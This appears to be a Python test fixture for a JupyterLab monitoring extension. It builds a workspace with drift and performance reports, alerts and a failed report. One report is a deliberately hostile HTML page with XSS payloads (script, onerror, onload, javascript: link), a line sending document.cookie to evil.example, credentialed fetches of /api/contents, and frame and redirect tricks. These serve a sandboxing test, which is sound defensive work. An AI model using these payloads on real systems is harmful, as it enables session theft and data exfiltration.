"""A workspace as the JupyterLab extension meets one: reports, one of them hostile, one that failed, and open alerts."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

from mlprod_nb import Workspace
from mlprod_nb.store import Store, alerts, report_index
from mlprod_nb.store.alerts import NewAlert
from mlprod_nb.store.report_index import ReportRecord
from tests.reports.pages import page, shown

MADE = datetime(2013, 5, 1, 6, tzinfo=UTC)
#: It tries all that a page can try against the Jupyter that shows it.
HOSTILE = """<!doctype html><html><head><meta charset="utf-8"><title>hostile</title></head><body><h1>It drifted.</h1>
<script>document.documentElement.dataset.ran = "yes"; parent.document.title = "taken";
fetch("/api/contents", {credentials: "include"}); new Image().src = "https://evil.example/" + document.cookie;</script>
<img src="x" onerror="document.documentElement.dataset.ran = 'yes'">
<svg onload="document.documentElement.dataset.ran='yes'"></svg>
<form id="trap" action="/mlprod/notebooks" method="post" target="_top"><button id="send">Send</button></form>
<a id="away" href="https://evil.example/" target="_top">away</a>
<a id="script" href="javascript:document.documentElement.dataset.ran='yes'">script</a>
<iframe src="/lab"></iframe><object data="/api/contents"></object><embed src="/api/contents">
<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">
</body></html>"""
NAUGHTY = "<img src=x onerror=window.hit=1>"


def a_workspace(root: Path) -> Path:
    """Make the workspace; return its directory, resolved."""
    Workspace.init(str(root))
    Workspace.open(root).status()
    store = Store(Store.sqlite_url(root / ".mlprod" / "state.db"))
    whole = page(shown("warn", "dep_delay drifts"))
    with store.write() as connection:
        for hour, (kind, status, sentence, text) in enumerate(
            (
                ("drift", "ok", "nothing moved.", whole),
                ("performance", "alarm", NAUGHTY, HOSTILE),
                ("drift", "warn", "dep_delay drifts", whole),
            )
        ):
            record = ReportRecord(
                f"{hour + 10:x}" * 64,
                kind,
                "flights",
                status,  # type: ignore[arg-type]
                sentence,
                f"reports/flights/{kind}/20130501T0{hour}0000Z-{hour}",
                {},
                MADE + timedelta(hours=hour),
            )
            (root / record.path).mkdir(parents=True)
            (root / record.path / "index.html").write_text(text, encoding="utf-8")
            (root / record.path / "verdict.json").write_text("{}", encoding="utf-8")
            report_index.add(connection, record)
        for cause in ("drift: dep_delay", "performance: brier"):
            said = NewAlert("flights", "drift", "alarm", f"{cause} is off", "mlprod monitor flights", "", "")
            alerts.add(connection, said, [cause], now=MADE)
    store.close()
    failed = root / "reports" / "flights" / "drift" / "20130501T050000Z-failed"
    failed.mkdir()
    (failed / "index.html").write_text("<h1>Cell 3 raised KeyError.</h1>", encoding="utf-8")
    return root.resolve()
